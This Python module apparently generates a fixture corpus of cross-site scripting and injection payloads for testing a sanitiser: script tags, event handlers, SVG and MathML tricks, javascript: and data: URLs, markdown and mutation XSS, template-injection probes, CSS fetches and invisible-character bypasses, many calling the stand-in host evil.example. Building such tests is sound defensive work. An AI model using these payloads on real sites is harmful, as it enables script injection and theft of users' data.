"""Words that want to be more than words: what an attacker may have stored, by the trick it tries.

All of them set `window.pwned`, open a dialog or ask `evil.example`, each in its own way. A page that shows them as
words does none of it.
"""

from __future__ import annotations

from itertools import product
from urllib.parse import quote

RUN = "window.pwned=1;alert(1)"
OUT = "https://evil.example"


def scripts() -> list[str]:
    """Script elements, whole, broken, and in clothes."""
    bodies = (RUN, f"fetch('{OUT}/s')", "top.pwned=1", f"import('{OUT}/m.js')")
    shapes = (
        "<script>{}</script>",
        "<ScRiPt>{}</sCrIpT>",
        "<script\n>{}</script\t>",
        "<script/x>{}</script>",
        "</textarea><script>{}</script>",
        "</title><script>{}</script>",
        '"><script>{}</script>',
        "'><script>{}</script>",
        "--><script>{}</script>",
        "]]><script>{}</script>",
        "</style><script>{}</script>",
        "<<script>{}//<</script>",
        "<script>{}",
        "</script><script>{}</script>",
        "<script type=module>{}</script>",
    )
    loaded = [f"<script src={OUT}/{n}.js></script>" for n in range(3)] + [
        f"<script src=//evil.example/{n}>" for n in "ab"
    ]
    return [shape.format(body) for shape in shapes for body in bodies[: 2 if "module" not in shape else 4]] + loaded


def handlers() -> list[str]:
    """Elements that act by themselves or when somebody comes near."""
    tags = (
        "img src=x onerror",
        "img src=x:x onerror",
        "body onload",
        "input autofocus onfocus",
        "select autofocus onfocus",
        "textarea autofocus onfocus",
        "video src=x onerror",
        "audio src=x onerror",
        "video><source onerror",
        "details open ontoggle",
        "marquee onstart",
        "iframe onload",
        "object data=x onerror",
        "embed src=x onload",
        "link rel=stylesheet href=x onerror",
        "style onload",
        "button autofocus onfocus",
        "a tabindex=0 autofocus onfocus",
        "div contenteditable autofocus onfocus",
        "form><button formaction=javascript:alert(1) onclick",
        "p onpointerenter",
        "p onmouseover",
        "body onpageshow",
        "body onhashchange",
        "img srcset=x onerror",
        "x onanimationstart",
        "math tabindex=0 autofocus onfocus",
        "dialog open onclose",
    )
    plain = [f"<{tag}={RUN}>" for tag in tags]
    return (
        plain + [f'"><{tag}="{RUN}" x="' for tag in tags[:12]] + [f"' {tag.split()[-1]}='{RUN}' '" for tag in tags[:12]]
    )


def pictures() -> list[str]:
    """What an SVG or MathML island may carry."""
    inner = (
        "<svg onload={r}>",
        "<svg><script>{r}</script></svg>",
        "<svg><script href={o}/a.js></script></svg>",
        "<svg><animate onbegin={r} attributeName=x dur=1s>",
        "<svg><set onbegin={r} attributeName=x>",
        "<svg><a xlink:href=javascript:{r}><text y=20>x</text></a></svg>",
        "<svg><use href={o}/x.svg#x></use></svg>",
        "<svg><image href={o}/x.png></image></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>{r}</script>'>",
        "<svg><style>@import '{o}/x.css'</style></svg>",
        "<math><maction actiontype=statusline xlink:href=javascript:{r}>x",
        "<math href=javascript:{r}>x</math>",
        "<svg/onload={r}//",
        "<svg><desc><script>{r}</script></desc></svg>",
        "<svg><title><img src=x onerror={r}></title></svg>",
        "<svg><discard onbegin={r}>",
        "<svg><feImage href={o}/f.png></svg>",
        "<svg><a><animate attributeName=href values=javascript:{r} /></a></svg>",
    )
    return [text.format(r=RUN, o=OUT) for text in inner]


def addresses() -> list[str]:
    """Addresses that run: in an attribute, in a link of markdown, as themselves."""
    bad = [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        " javascript:alert(1)",
        "\x01javascript:alert(1)",
        "javascript&colon;alert(1)",
        "javascript&#58;alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "javascript:%61lert(1)",
        "javascript://x%0aalert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "blob:https://evil.example/x",
        "file:///etc/passwd",
        "//evil.example/x",
        "\\\\evil.example\\x",
        "https:evil.example",
        "/\\evil.example",
        "javascript\u200b:alert(1)",
        "ｊavascript:alert(1)",
    ]
    html = [f'<a href="{text}">x</a>' for text in bad]
    marked = [f"[x]({text})" for text in bad] + [f"[x](<{text}>)" for text in bad[:8]]
    result = [f"<{text}>" for text in bad[:6]] + [f"![x]({text})" for text in bad[:8]]
    return html + marked + result


def markdown() -> list[str]:
    """What markdown itself can be talked into."""
    return [
        f"![x]({OUT}/pixel.png)",
        f"![x][r]\n\n[r]: {OUT}/pixel.gif",
        f'[x]({OUT} "onmouseover={RUN}")',
        f'[x](x "\\"><img src=x onerror={RUN}>")',
        f"[x](javascript:{RUN})",
        f"[x]: javascript:{RUN}\n\n[x]",
        f"[<img src=x onerror={RUN}>](https://x.example)",
        f"`</code><script>{RUN}</script>`",
        f"```\n</code></pre><script>{RUN}</script>\n```",
        f"```html<script>{RUN}</script>\nx\n```",
        f"# </h1><script>{RUN}</script>",
        f"> </blockquote><script>{RUN}</script>",
        f"- </li><script>{RUN}</script>",
        f"|a|b|\n|-|-|\n|<img src=x onerror={RUN}>|x|",
        f"<!--><img src=x onerror={RUN}>-->",
        f"<!-- --!><img src=x onerror={RUN}>",
        f"<?php <script>{RUN}</script> ?>",
        f"<![CDATA[<script>{RUN}</script>]]>",
        f"<div\n\n<script>{RUN}</script>",
        f"~~<svg onload={RUN}>~~",
        f"**<b onclick={RUN}>x</b>**",
        f'[x](https://x.example/"onmouseover="{RUN})',
        f"[x](https://x.example' onmouseover='{RUN})",
        f'<https://x.example/"onmouseover="{RUN}>',
        f"[[01arz3ndektsv4rrffq69g5fav|<img src=x onerror={RUN}>]]",
        f'[["><script>{RUN}</script>01arz3ndektsv4rrffq69g5fav]]',
        "[[../../login|x]]",
        f"\\<script>{RUN}</script>",
        f"&lt;script&gt;{RUN}&lt;/script&gt;",
        f"&#60;script&#62;{RUN}&#60;/script&#62;",
        f"[a]({OUT}/a)<img src={OUT}/b>",
        f"![<script>{RUN}</script>]({OUT}/c.png)",
        f"Setext <script>{RUN}</script>\n===",
        f"[x]( javascript:{RUN} )",
        f"[x](data:text/html,{quote(RUN)})",
        f"***<iframe src=javascript:{RUN}>***",
    ]


def mutations() -> list[str]:
    """What is harmless as it is written, and something else once a parser has mended it."""
    bait = f"<img src=x onerror={RUN}>"
    outer = (
        '<noscript><p title="</noscript>{}">',
        "<math><mtext><table><mglyph><style><!--</style>{}",
        '<svg></p><style><a id="</style>{}">',
        "<form><math><mtext></form><form><mglyph><style></math>{}",
        "<template><s>{}</template>",
        "<table><td><style>{}</style></td>",
        '<xmp><p title="</xmp>{}">',
        '<title><a title="</title>{}">',
        "<textarea></textarea>{}",
        "<select><option><style></option></select>{}",
        "<plaintext>{}",
        "<listing>&lt;img onerror=1&gt;</listing>{}",
        '<svg><p><style><g title="</style>{}">',
        '<math><annotation-xml encoding="text/html">{}</annotation-xml></math>',
        "<b><p></b>{}</p>",
        '<a href="&quot;>{}">',
        "<p id='\"`>{}'>",
        "<iframe>&lt;/iframe&gt;</iframe>{}",
        "<noembed></noembed>{}",
        "<svg><desc>{}</desc></svg>",
        "<table background=x>{}</table>",
        "<frameset>{}</frameset>",
    )
    return [text.format(bait) for text in outer]


def templates() -> list[str]:
    """What a template engine, ours or another, might run."""
    return [
        "{{ 7 * 7 }}",
        "{{ visit.house.tokens }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
        "{{ ''.__class__.__mro__ }}",
        "{% include 'base.html' %}",
        "{{ config }}",
        "{# comment #}",
        "{% raw %}{{ x }}{% endraw %}",
        "${alert(1)}",
        "#{alert(1)}",
        "<%= alert(1) %>",
        "{{constructor.constructor('alert(1)')()}}",
        "[[${alert(1)}]]",
        "<div hx-get=/logout hx-trigger=load></div>",
        f"<div hx-on:load={RUN}></div>",
        "<div hx-vals=js:alert(1) hx-get=/ hx-trigger=load>",
        "<div data-hx-get=/logout data-hx-trigger=load></div>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href=https://evil.example/>",
        "<form action=https://evil.example><button autofocus>x</button></form>",
        "<input name=csrf value=x>",
        "<div id=main></div>",
        "<a id=theme>x</a>",
        "<div data-item tabindex=0></div>",
    ]


def styles() -> list[str]:
    """What a style may fetch or cover."""
    return [
        f"<style>@import '{OUT}/x.css';</style>",
        f"<style>body{{background:url({OUT}/x)}}</style>",
        f'<div style="background:url({OUT}/d)">x</div>',
        "<div style='position:fixed;inset:0;z-index:9999'>x</div>",
        f"<link rel=stylesheet href={OUT}/x.css>",
        "<div style=width:expression(alert(1))>",
        "<x style=behavior:url(x.htc)>",
        f"<style>@font-face{{font-family:x;src:url({OUT}/f)}}*{{font-family:x}}</style>",
        f'<p style="list-style-image:url({OUT}/l)">x',
        "</style><style>*{display:none}</style>",
        f'"style="background:url({OUT}/q)"',
        "<svg style='background:url(//evil.example/s)'>",
        f"<link rel=preload as=image href={OUT}/p>",
        f"<link rel=dns-prefetch href={OUT}>",
    ]


def hidden() -> list[str]:
    """Words nobody sees, and characters that turn what is seen around."""
    unseen = (
        "\u200b",
        "\u200e",
        "\u202e",
        "\u2066",
        "\u2060",
        "\ufeff",
        "\u00ad",
        "\u034f",
        "\u115f",
        "\u3164",
        "\u061c",
        "\U000e0041\U000e0042",
        "\u180e",
        "\u2064",
        "\ufff9",
    )
    shapes = ("safe{}<script>alert(1)</script>", "<scr{}ipt>alert(1)</script>")
    odd = [
        "＜script＞alert(1)＜/script＞",
        "\ufe64script\ufe65alert(1)",
        "‹script›alert(1)‹/script›",
        "<script>alert`1`</script>",
        "<ſcript>alert(1)</ſcript>",
        "<img src=x oneﬀrror=alert(1)>",
    ]
    return [shape.format(item) for shape, item in product(shapes, unseen)] + odd


FAMILIES = {
    "scripts": scripts,
    "handlers": handlers,
    "pictures": pictures,
    "addresses": addresses,
    "markdown": markdown,
    "mutations": mutations,
    "templates": templates,
    "styles": styles,
    "hidden": hidden,
}


def corpus() -> list[tuple[str, str]]:
    """Every payload once, with the family it is of."""
    fields: dict[str, str] = {}
    for name, make in FAMILIES.items():
        for item in make():
            fields.setdefault(item, name)
    return [(name, element) for element, name in fields.items()]


CORPUS_WORDS = [payload for _, payload in corpus()]
